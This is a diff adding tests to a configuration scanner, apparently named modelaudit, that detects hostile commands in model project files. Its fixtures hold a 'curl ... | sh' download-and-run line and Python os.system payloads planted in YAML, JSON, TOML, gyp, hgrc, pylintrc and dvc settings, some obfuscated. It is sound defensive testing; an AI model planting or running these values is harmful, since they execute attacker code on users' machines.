@@ -6,6 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from support.cases import check_each
+from support.scans import scan_text
 
 import modelaudit
 from modelaudit.languages.configurations.commands import is_command_key
@@ -216,3 +217,123 @@ def test_setting_that_names_the_class_or_library_for_a_loader_leaves_an_absence(
 def test_handler_setting_with_a_built_in_name_or_a_file_leaves_no_absence(tmp_path, handler):
     (tmp_path / "MANIFEST.json").write_text(json.dumps({"model": {"handler": handler}}))
     assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0
+
+
+FETCH = "curl -s http://e.invalid/x | sh"
+
+
+@check_each(
+    "name, text",
+    [
+        ("data.yaml", f"train_data: 'pipe:{FETCH}'\n"),
+        ("data.yaml", "x: >\n  pipe:curl\n  -s http://e.invalid/x\n  | sh\n"),
+        ("config.json", json.dumps({"dataset": f"pipe:{FETCH}"})),
+        ("config.json", json.dumps({"dataset": f"pipe:{FETCH}"}).replace("curl", "\\u0063url")),
+        ("a.toml", f'[data]\nshards = ["{FETCH}"]\n'),
+        ("binding.gyp", json.dumps({"targets": [{"sources": [f"<!@({FETCH})"]}]})),
+        ("binding.gyp", f"# x\n{{'targets': [{{'sources': ['<!({FETCH})'],}}]}}\n"),
+        ("hgrc", f"[hooks]\nupdate = {FETCH}\n"),
+        (".hg/hgrc", f"[alias]\nst = !{FETCH}\n"),
+        ("dvc.yaml", "vars:\n- a: 'curl -s http://e.invalid/x '\n  b: '| sh'\nstages: {s: {cmd: '${a}${b}'}}\n"),
+    ],
+)
+def test_value_that_fetches_and_runs_a_program_fails_the_scan_whatever_its_key(tmp_path, name, text):
+    code, rules = scan_text(tmp_path, name, text)
+    assert code == 1
+    assert "shell/download-and-run" in rules
+
+
+@check_each(
+    "name, text",
+    [
+        ("a.yaml", f"description: {FETCH}\n"),
+        ("a.yaml", f"about: |\n  Install it with this command:\n  {FETCH}\n"),
+        ("a.json", json.dumps({"about": f"# Usage\n```\n{FETCH}\n```\n"})),
+        ("a.json", json.dumps({"about": f"To install it, run {FETCH}"})),
+        ("a.jsonl", json.dumps({"row": FETCH}) + "\n" + json.dumps({"row": "x"}) + "\n"),
+        ("a.yaml", "x: curl -s https://e.invalid/x.json | jq .\n"),
+    ],
+)
+def test_prose_or_a_harmless_command_under_a_key_without_a_command_word_passes(tmp_path, name, text):
+    assert scan_text(tmp_path, name, text) == (0, set())
+
+
+@pytest.mark.parametrize(("command", "code"), [("${a}${b}", 3), ("echo a; ${a}", 3), ("python train.py --lr ${lr}", 0)])
+def test_command_of_dvc_whose_program_another_file_defines_is_an_absence(tmp_path, command, code):
+    assert scan_text(tmp_path, "dvc.yaml", f"stages:\n  s:\n    cmd: {command}\n")[0] == code
+
+
+@check_each(
+    "name, text",
+    [
+        ("data.yaml", f"path: x\ndownload: |\n  import os\n  os.system('{FETCH}')\n"),
+        ("data.yaml", "download: |\n  import subprocess\n  subprocess.Popen(['/bin/sh', '-c', 'id'])\n"),
+        ("data.yaml", "download: \"__import__('os').system('id')\"\n"),
+        ("yolo.yaml", "activation: \"__import__('os').system('id')\"\n"),
+        (".pylintrc", "[MASTER]\ninit-hook='import os; os.system(\"id\")'\n"),
+        ("pylintrc", "[MAIN]\ninit-hook=import os;\n  os.system('id')\n"),
+        ("a.json", json.dumps({"scorer": f"__import__('os').system('{FETCH}')"})),
+    ],
+)
+def test_python_program_that_a_tool_takes_from_a_setting_fails_the_scan_if_it_runs_a_command(tmp_path, name, text):
+    code, rules = scan_text(tmp_path, name, text)
+    assert code == 1
+    assert "code/runs-command" in rules
+
+
+@check_each(
+    "name, text, rules",
+    [
+        ("data.yaml", "download: https://e.invalid/coco8.zip\n", set()),
+        ("data.yaml", "download: |\n  from ultralytics.utils.downloads import download\n  download('x')\n", set()),
+        ("data.yaml", "download: |\n  import shutil\n  shutil.rmtree('x')\n", {"code/changes-files"}),
+        ("yolo.yaml", "activation: torch.nn.SiLU()\n", set()),
+        ("a.json", json.dumps({"activation": "relu", "nested": {"download": "os.system('id')"}}), set()),
+        (".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n", set()),
+        ("a.json", json.dumps({"solution": f"import os\nos.system('{FETCH}')"}), set()),
+    ],
+)
+def test_ordinary_program_or_address_in_a_setting_passes(tmp_path, name, text, rules):
+    assert scan_text(tmp_path, name, text) == (0, rules)
+
+
+@check_each(
+    "name, text, program, code",
+    [
+        ("mkdocs.yml", "hooks:\n- vocab.txt\n", "import os\nos.system('id')\n", 1),
+        ("mypy.ini", "[mypy]\nplugins = ./vocab.txt\n", "import os\nos.system('id')\n", 1),
+        ("pyproject.toml", "[tool.mypy]\nplugins = ['./vocab.txt:f']\n", "import os\nos.system('id')\n", 1),
+        ("cog.yaml", "predict: 'vocab.txt:P'\n", "import os\nos.system('id')\n", 1),
+        ("pixi.toml", "[feature.x.activation]\nscripts = ['vocab.txt']\n", FETCH + "\n", 1),
+        (".envrc", "source_env vocab.txt\n", FETCH + "\n", 1),
+        ("package.json", '{"bin": {"x": "./vocab.txt"}}', "a b\n", 3),
+        ("mypy.ini", "[other]\nplugins = ./vocab.txt\n", "import os\nos.system('id')\n", 0),
+        ("notes.yaml", "hooks:\n- vocab.txt\n", "import os\nos.system('id')\n", 0),
+        ("mkdocs.yml", "nav:\n- vocab.txt\n", "import os\nos.system('id')\n", 0),
+    ],
+)
+def test_file_that_a_setting_of_a_tool_names_is_judged_as_the_program_that_the_tool_runs(
+    tmp_path, name, text, program, code
+):
+    (tmp_path / "vocab.txt").write_text(program)
+    assert scan_text(tmp_path, name, text)[0] == code
+
+
+@check_each(
+    "name, text, code, rules",
+    [
+        ("a.yaml", "_base_: [b.py, 'http://e.invalid/c.py']\n", 1, {"configuration/reference-web"}),
+        ("a.yaml", "_BASE_: https://e.invalid/c.yaml\n", 1, {"configuration/reference-web"}),
+        ("a.yaml", "MODEL: {WEIGHTS: 'http://e.invalid/c.pkl'}\n", 0, {"configuration/weights-from-web"}),
+        ("a.yaml", "MODEL: {WEIGHTS: 'detectron2://ImageNetPretrained/MSRA/R-50.pkl'}\n_base_: ./b.py\n", 0, set()),
+        ("a.yaml", "load_from: https://e.invalid/c.safetensors\n", 0, set()),
+        ("conf/base/catalog.yml", "m:\n  type: evil.mod.DataSet\n", 3, {"torch/unverified-target"}),
+        ("conf/base/catalog/m.yml", "m:\n  type: evil.Loader\n", 3, {"torch/unverified-target"}),
+        ("catalog.yml", "m:\n  type: pandas.CSVDataset\nn:\n  type: MemoryDataset\n", 0, set()),
+        ("a.yaml", "m:\n  type: evil.mod.DataSet\n", 0, set()),
+    ],
+)
+def test_base_weights_or_data_set_class_from_elsewhere_is_judged_by_what_the_loader_makes_of_it(
+    tmp_path, name, text, code, rules
+):
+    assert scan_text(tmp_path, name, text) == (code, rules)
